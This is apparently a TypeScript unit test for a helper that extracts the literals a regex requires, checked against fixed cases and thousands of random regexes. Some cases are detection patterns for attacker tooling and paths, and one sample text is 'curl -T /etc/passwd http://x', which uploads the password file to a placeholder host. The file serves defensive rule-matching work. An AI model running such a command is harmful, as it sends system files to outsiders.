// The literals a regex guard is built from must be necessary: a text the regex matches always contains
// one of them. Checked on the corpus's own regexes and on thousands of random regexes and texts.
import { RE2JS } from 're2js';
import { describe, expect, it } from 'vitest';
import { regexNeedles } from './regex-literals.ts';

function holds(needles: string[], text: string): boolean {
  const lower = text.toLowerCase();
  return needles.some((n) => lower.includes(n));
}

describe('regexNeedles', () => {
  it.each([
    ['-(W|R)\\s?(\\s|"|\')([0-9a-fA-F]{2}\\s?){2,20}(\\s|"|\')', ['-w', '-r'], 'pnscan -W "41 42" x'],
    ['\\s-[FTd]\\s', ['-f', '-t', '-d'], 'curl -T /etc/passwd http://x'],
    ['\\s[\'"]?C:\\\\Windows\\\\(?:System32|SysWOW64|WinSxS)', ['c:\\windows\\system32', 'c:\\windows\\syswow64', 'c:\\windows\\winsxs'], 'x "C:\\Windows\\SysWOW64\\a'],
    ['(?:[Pp]rogram[Dd]ata|%(?:[Ll]ocal)?[Aa]pp[Dd]ata%)', ['programdata', 'appdata%'], '%LocalAppData%\\x'],
    ['net\\s+config', ['config'], 'net  config server'],
    ['(?i)foo(bar)?', ['foo'], 'FOO'],
  ])('%s needs one of %j', (source, needles, matching) => {
    expect(regexNeedles(source)).toEqual(needles);
    expect(RE2JS.compile(source).matcher(matching).find()).toBe(true);
    expect(holds(needles, matching)).toBe(true);
  });

  it.each([
    ['(.){200,}', 'nothing but repetition'],
    ['a*', 'an optional part'],
    ['(^|\\/)\\.[^.\\/]', 'only one-character literals'],
    ['\\x41BC', 'an escape it does not model'],
    ['ab(c', 'an unclosed group'],
    ['foo|.*', 'a branch with no literal'],
    ['\\Qabc\\E', 'quoting'],
    ['[\\x00-\\x1f]abc?', 'a class with escapes it does not model'],
  ])('gives none for %s (%s)', (source) => {
    expect(regexNeedles(source)).toBeUndefined();
  });

  it('never names a set a matching text lacks, over random regexes and texts', () => {
    let state = 11;
    const random = () => (state = (state * 1_103_515_245 + 12_345) & 0x7fffffff) / 0x7fffffff;
    const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
    const atom = (depth: number): string => {
      const roll = random();
      if (depth > 0 && roll < 0.2) return `(${regex(depth - 1)})`;
      if (depth > 0 && roll < 0.3) return `(?:${regex(depth - 1)})`;
      if (roll < 0.4) return pick(['[ab]', '[^a]', '[a-c]', '[-a]', '[\\-b]', '.', '\\s', '\\b', '^', '$']);
      return pick(['a', 'b', 'c', 'A', ' ', '-', '\\.', '\\-']);
    };
    const piece = (depth: number) => atom(depth) + pick(['', '', '', '*', '+', '?', '{2}', '{0,2}', '{1,}', '+?']);
    const sequence = (depth: number) => Array.from({ length: 1 + Math.floor(random() * 4) }, () => piece(depth)).join('');
    const regex = (depth: number): string => Array.from({ length: random() < 0.7 ? 1 : 2 }, () => sequence(depth)).join('|');
    const text = () => Array.from({ length: Math.floor(random() * 12) }, () => pick(['a', 'b', 'c', 'A', 'B', ' ', '-', '.', '\n'])).join('');

    let guarded = 0;
    let matched = 0;
    for (let r = 0; r < 8_000; r++) {
      const source = regex(2);
      let re: RE2JS;
      try {
        re = RE2JS.compile(source);
      } catch {
        continue;
      }
      const needles = regexNeedles(source);
      if (!needles) continue;
      guarded++;
      for (let t = 0; t < 200; t++) {
        const sample = text();
        if (!re.matcher(sample).find()) continue;
        matched++;
        expect(holds(needles, sample), `${source} matched ${JSON.stringify(sample)} without any of ${JSON.stringify(needles)}`).toBe(true);
      }
    }
    // The comparison only means something if many regexes get needles and many texts match.
    expect(guarded).toBeGreaterThan(400);
    expect(matched).toBeGreaterThan(1_000);
  });
});
